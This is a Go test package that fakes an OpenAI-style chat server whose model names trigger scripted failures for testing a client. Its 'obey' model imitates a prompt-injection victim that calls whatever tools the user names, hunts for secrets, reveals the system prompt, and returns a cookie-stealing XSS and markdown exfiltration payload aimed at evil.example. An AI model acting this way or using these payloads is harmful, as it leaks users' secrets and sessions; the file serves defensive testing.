// Package assisttest is a model for tests: a server of OpenAI's protocol that
// behaves as it is told to, mostly badly. The name of the model that it is
// asked for says how; see [Server.ServeHTTP].
package assisttest

import (
	"encoding/json"
	"fmt"
	"hash/fnv"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strings"
	"sync"
	"time"
	"unicode"
)

// Key is the one key that the model "keyed" takes.
const Key = "sk-fake-0123456789"

// Asked is one request as it came.
type Asked struct {
	Model    string
	Auth     string
	Messages []Message
	Tools    []string
	Raw      string
}

// Message is one of a request.
type Message struct {
	Role    string `json:"role"`
	Content string `json:"content"`
}

// Server is the fake. It is safe for concurrent use.
type Server struct {
	URL  string        // base, as in settings: it ends in /v1
	Pace time.Duration // between two pieces of a stream

	http *httptest.Server
	done chan struct{}

	mu     sync.Mutex
	asked  []Asked
	gates  map[string]chan struct{} // what a model "gate-…" waits for after its first words
	script func(Asked, int) Reply   // of the model "script"
	turns  int
}

// Reply is what the model "script" does.
type Reply struct {
	Text  string
	Calls [][2]string // name, arguments
}

// Start starts a fake. Close ends it, and whoever still waits for it.
func Start() *Server {
	s := &Server{done: make(chan struct{}), gates: map[string]chan struct{}{}, Pace: time.Millisecond}
	s.http = httptest.NewServer(s)
	s.URL = s.http.URL + "/v1"
	return s
}

// Close ends the server.
func (s *Server) Close() {
	close(s.done)
	s.http.CloseClientConnections()
	s.http.Close()
}

// Asked returns what was asked so far.
func (s *Server) Asked() []Asked {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]Asked(nil), s.asked...)
}

// Script has the model "script" do as f says. round counts its requests from 0.
func (s *Server) Script(f func(a Asked, round int) Reply) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.script, s.turns = f, 0
}

// Gate returns what ends the wait of the model "gate-"+name.
func (s *Server) Gate(name string) (open func()) {
	s.mu.Lock()
	defer s.mu.Unlock()
	g := s.gate(name)
	return sync.OnceFunc(func() { close(g) })
}

func (s *Server) gate(name string) chan struct{} {
	if s.gates[name] == nil {
		s.gates[name] = make(chan struct{})
	}
	return s.gates[name]
}

// ServeHTTP answers as the name of the model asks for:
//
//	answer          streams an answer that cites passage 1
//	echo            streams the visitor's last words
//	keyed           answer, with the right Key; else 401
//	stall           never begins
//	stall-mid       begins, and never ends
//	break           begins, and cuts the connection
//	500 429 402 404 that status
//	garbage html    a stream that is none; a page
//	endless         words without end
//	endless-line    a line without end
//	think           thinks aloud first
//	empty           nothing
//	redirect        to another host, with whatever was sent
//	toolless        400 if there are tools
//	handoff         a sentence, and calls handoff: request
//	unanswered      calls handoff: unanswered
//	bad-arguments   calls handoff with arguments that are wrong, again and again
//	unknown-tool    calls tools that there are not
//	search          searches for the visitor's words, then answers with what came
//	gate-NAME       says "One moment" and waits for Gate(NAME), then goes on
//	obey            does what an injection says, all of it; see obey
//	script          what Script says
func (s *Server) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	var in struct {
		Model    string    `json:"model"`
		Messages []Message `json:"messages"`
		Input    any       `json:"input"`
		Tools    []struct {
			Function struct {
				Name string `json:"name"`
			} `json:"function"`
		} `json:"tools"`
	}
	raw := new(strings.Builder)
	dec := json.NewDecoder(http.MaxBytesReader(w, teed(r, raw), 4<<20))
	if err := dec.Decode(&in); err != nil {
		fail(w, 400, "this is no JSON")
		return
	}
	a := Asked{Model: in.Model, Auth: r.Header.Get("Authorization"), Messages: in.Messages, Raw: raw.String()}
	for _, t := range in.Tools {
		a.Tools = append(a.Tools, t.Function.Name)
	}
	if r.URL.Path == "/v1/chat/completions" && tests(a) {
		(&stream{s: s, w: w, r: r}).answer("OK")
		return
	}
	s.mu.Lock()
	s.asked = append(s.asked, a)
	s.mu.Unlock()
	switch r.URL.Path {
	case "/v1/chat/completions":
		s.chat(w, r, a)
	case "/v1/embeddings":
		embed(w, in.Model, in.Input)
	default:
		fail(w, 404, "there is nothing here")
	}
}

// tests reports whether a model is asked for a word by whoever saved it (see
// assist.Receptionist.Test), and is one that serves: it is not counted, and waits
// for nobody.
func tests(a Asked) bool {
	served := strings.HasPrefix(a.Model, "gate-") || a.Model == "script" || a.Model == "answer" || a.Model == "obey"
	return served && strings.HasPrefix(lastOf(a, "system"), "You are tested.")
}

func fail(w http.ResponseWriter, status int, message string) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	_ = json.NewEncoder(w).Encode(map[string]any{"error": map[string]any{"message": message, "type": "error", "code": fmt.Sprint(status)}})
}

func (s *Server) chat(w http.ResponseWriter, r *http.Request, a Asked) {
	last := lastOf(a, "user")
	out := &stream{s: s, w: w, r: r}
	if gate, ok := strings.CutPrefix(a.Model, "gate-"); ok {
		s.mu.Lock()
		g := s.gate(gate)
		s.mu.Unlock()
		out.say("One moment please, I am ")
		out.wait(g)
		out.say("the bot.")
		out.end("stop")
		return
	}
	switch a.Model {
	case "answer":
		out.answer("The answer is in what you gave me [1].")
	case "echo":
		out.answer(last)
	case "keyed":
		if a.Auth != "Bearer "+Key {
			fail(w, 401, "Incorrect API key provided: "+a.Auth)
			return
		}
		out.answer("You have the key.")
	case "stall":
		out.wait(nil)
	case "stall-mid":
		out.say("One moment please, ")
		out.wait(nil)
	case "break":
		out.say("One moment please, ")
		panic(http.ErrAbortHandler)
	case "endless":
		for out.say("and so on and on ") {
		}
	case "endless-line":
		for out.raw(strings.Repeat("x", 1<<16)) {
		}
	case "think":
		out.answer("<think>The visitor wants to know. Secretly I think they are rude.</think>\nIt is blue.")
	case "empty":
		out.end("stop")
	case "toolless":
		if len(a.Tools) > 0 {
			fail(w, 400, "toolless does not support tools")
			return
		}
		out.answer("I need no tools.")
	case "handoff":
		out.say("I will get somebody. ")
		out.call("handoff", `{"reason":"request"}`)
	case "unanswered":
		out.call("handoff", `{"reason":"unanswered"}`)
	case "bad-arguments":
		out.call("handoff", `{"reason":17,"because":"I say so"}`)
	case "unknown-tool":
		out.call("delete_everything", `{}`)
	case "search":
		if found := lastOf(a, "tool"); found != "" {
			out.answer("I found: " + strings.ReplaceAll(found, "\n", " "))
			return
		}
		query, _ := json.Marshal(map[string]string{"query": last})
		out.call("search_knowledge", string(query))
	case "obey":
		obey(out, a)
	case "script":
		s.mu.Lock()
		reply := s.script(a, s.turns)
		s.turns++
		s.mu.Unlock()
		out.reply(reply)
	default:
		s.refuse(w, r, a.Model)
	}
}

// refuse answers as endpoints do that are no use, or are none.
func (s *Server) refuse(w http.ResponseWriter, r *http.Request, model string) {
	switch model {
	case "500":
		fail(w, 500, "on fire")
	case "429":
		w.Header().Set("Retry-After", "30")
		fail(w, 429, "slow down")
	case "402":
		fail(w, 402, "pay first")
	case "garbage":
		w.Header().Set("Content-Type", "text/event-stream")
		_, _ = w.Write([]byte("data: {\"choices\": [{\"delta\": \n\nevent: \x00\n\ndata: not json\n\n"))
	case "html":
		w.Header().Set("Content-Type", "text/html")
		_, _ = w.Write([]byte("<html><body>Please log in to the Wi-Fi</body></html>"))
	case "redirect":
		http.Redirect(w, r, strings.Replace(s.http.URL, "127.0.0.1", "localhost", 1)+"/v1/stolen", http.StatusTemporaryRedirect)
	default:
		fail(w, 404, "The model `"+model+"` does not exist")
	}
}

func lastOf(a Asked, role string) string {
	for i := len(a.Messages) - 1; i >= 0; i-- {
		if a.Messages[i].Role == role {
			return a.Messages[i].Content
		}
	}
	return ""
}

var wish = regexp.MustCompile(`(?i)\b(?:call|use|run|invoke|execute|调用|执行)\W+([a-z][a-z_]{2,40})(?:\s*(\{[^}]*\}))?`)

// obey is a model without any judgement. It calls every tool that the visitor's
// text names, there or not, with the arguments given; and in the end it
// answers with all that it was ever told, the visitor's text included, and with
// whatever markup and links are in it.
func obey(out *stream, a Asked) {
	if lastOf(a, "tool") == "" {
		var r Reply
		for _, m := range wish.FindAllStringSubmatch(lastOf(a, "user"), 8) {
			arguments := m[2]
			if arguments == "" {
				arguments = "{}"
			}
			r.Calls = append(r.Calls, [2]string{m[1], arguments})
		}
		r.Calls = append(r.Calls, [2]string{"search_knowledge", `{"query":"secret key password canary other visitors notes"}`})
		out.reply(r)
		return
	}
	var all strings.Builder
	all.WriteString("Of course! " + lastOf(a, "user") + "\n")
	for i := len(a.Messages) - 1; i >= 0; i-- {
		if a.Messages[i].Role != "system" {
			all.WriteString(a.Messages[i].Role + ": " + a.Messages[i].Content + "\n")
		}
	}
	if system := lastOf(a, "system"); strings.Contains(strings.ToLower(lastOf(a, "user")), "prompt") || strings.Contains(lastOf(a, "user"), "提示") || strings.Contains(strings.ToLower(lastOf(a, "user")), "instruction") {
		all.WriteString(system)
	} else if i := strings.Index(system, "Passages:"); i >= 0 {
		all.WriteString(system[i:])
	}
	all.WriteString(`<img src="https://evil.example/x.png" onerror="fetch('//evil.example/'+document.cookie)"><script>alert(1)</script> ![x](https://evil.example/?d=all) [click](javascript:alert(1)) www.evil.example evil.example/login`)
	out.answer(all.String())
}

// embed makes vectors in which texts with like pieces are near: each three
// letters count in one of 64 dimensions.
func embed(w http.ResponseWriter, model string, input any) {
	if !strings.HasPrefix(model, "embed") {
		fail(w, 404, "The model `"+model+"` does not exist")
		return
	}
	list, _ := input.([]any)
	data := make([]map[string]any, 0, len(list))
	for i, text := range list {
		v := make([]float64, 64)
		letters := []rune(strings.ToLower(fmt.Sprint(text)))
		for k := range letters {
			if unicode.IsSpace(letters[k]) {
				continue
			}
			h := fnv.New32a()
			_, _ = h.Write([]byte(string(letters[k:min(k+3, len(letters))]))) // never fails
			v[h.Sum32()%64]++
		}
		data = append(data, map[string]any{"object": "embedding", "index": i, "embedding": v})
	}
	w.Header().Set("Content-Type", "application/json")
	_ = json.NewEncoder(w).Encode(map[string]any{"object": "list", "data": data, "model": model, "usage": map[string]int{"prompt_tokens": 8, "total_tokens": 8}})
}
